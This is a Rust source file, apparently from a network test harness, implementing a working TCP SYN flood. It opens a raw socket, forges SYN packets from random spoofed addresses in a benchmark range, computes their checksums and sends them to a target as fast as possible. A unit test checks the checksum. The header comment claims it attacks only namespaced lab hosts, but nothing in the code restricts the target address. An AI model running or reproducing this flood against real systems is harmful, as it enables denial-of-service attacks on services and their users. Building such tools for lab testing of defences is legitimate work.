//! A flood of TCP SYNs from random source addresses, by a raw socket. It attacks what the world's namespaces hold, and
//! nothing else: the addresses it takes are those of documentation and benchmark networks.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::Instant;

use anyhow::{Context as _, Result};
use serde_json::json;
use socket2::{Domain, Protocol, Socket, Type};

use super::tell;

/// Protocol number of a socket whose user writes the IP header (raw(7)).
const IPPROTO_RAW: i32 = 255;
const IP_LEN: usize = 20;
const TCP_LEN: usize = 20;
const TCP: u8 = 6;

/// Sends `count` SYNs to `to`, each from another random address of 198.18.0.0/15 and port, as fast as it can.
///
/// # Errors
/// Without the right to open a raw socket, or when the host has no route.
pub fn flood(to: SocketAddrV4, count: u64) -> Result<()> {
    let started = Instant::now();
    let protocol = Some(Protocol::from(IPPROTO_RAW));
    let socket = Socket::new(Domain::IPV4, Type::RAW, protocol).context("cannot open a raw socket")?;
    let address = SocketAddr::from(to).into();
    let mut state = 0x2545_f491_4f6c_dd1d_u64 ^ u64::from(std::process::id()) << 32;
    let mut sent = 0_u64;
    let mut refused = 0_u64;
    while sent < count {
        // Marsaglia's xorshift64.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let source = Ipv4Addr::from(0xc612_0000 | (state as u32 & 0x0001_ffff));
        match socket.send_to(&syn(source, (state >> 32) as u16 | 1024, (state >> 20) as u32, to), &address) {
            Ok(_) => sent += 1,
            // A full queue: the next one may get through.
            Err(_) => refused += 1,
        }
        if refused > count {
            break;
        }
    }
    tell(&json!({ "sent": sent, "refused": refused, "seconds": started.elapsed().as_secs_f64() }));
    Ok(())
}

/// A SYN without options. The kernel completes the IP header's length and checksum.
fn syn(source: Ipv4Addr, port: u16, sequence: u32, to: SocketAddrV4) -> [u8; IP_LEN + TCP_LEN] {
    let mut packet = [0; IP_LEN + TCP_LEN];
    let (ip, tcp) = packet.split_at_mut(IP_LEN);
    (ip[0], ip[8], ip[9]) = (0x45, 64, TCP);
    ip[3] = (IP_LEN + TCP_LEN) as u8;
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&to.ip().octets());
    tcp[0..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&to.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    (tcp[12], tcp[13]) = (5 << 4, 0x02);
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let pseudo = u32::from(TCP) + TCP_LEN as u32;
    let words = ip[12..20].chunks_exact(2).chain(tcp.chunks_exact(2));
    let mut sum = pseudo + words.map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum::<u32>();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A receiver's check: pseudo header and segment sum up to all ones (RFC 9293 section 3.1).
    #[test]
    fn the_checksum_is_right() {
        let packet = syn(Ipv4Addr::new(198, 18, 1, 2), 4_321, 0xdead_beef, SocketAddrV4::new([10, 0, 0, 1].into(), 80));
        let words = packet[12..].chunks_exact(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
        let sum = words.sum::<u32>() + 6 + 20;
        assert_eq!((sum & 0xffff) + (sum >> 16), 0xffff);
    }
}
